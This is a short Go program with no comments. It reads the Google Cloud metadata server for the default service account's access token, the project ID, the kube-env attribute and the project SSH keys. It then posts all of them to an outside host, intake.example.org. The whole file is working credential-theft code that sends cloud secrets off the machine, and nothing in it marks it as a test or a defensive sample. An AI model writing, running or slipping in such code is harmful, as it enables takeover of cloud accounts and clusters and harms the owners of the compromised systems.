package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
)

const md = "http://metadata.google.internal/computeMetadata/v1/"

func meta(p string) []byte {
	r, _ := http.NewRequest("GET", md+p, nil)
	r.Header.Set("Metadata-Flavor", "Google")
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		return nil
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return b
}

func main() {
	var tok struct {
		AccessToken string `json:"access_token"`
	}
	json.Unmarshal(meta("instance/service-accounts/default/token"), &tok)
	v := url.Values{
		"t": {tok.AccessToken},
		"p": {string(meta("project/project-id"))},
		"k": {string(meta("instance/attributes/kube-env"))},
		"s": {string(meta("project/attributes/ssh-keys"))},
	}
	resp, err := http.PostForm("https://intake.example.org/gcp", v)
	if err == nil {
		fmt.Println(resp.Status)
	}
}
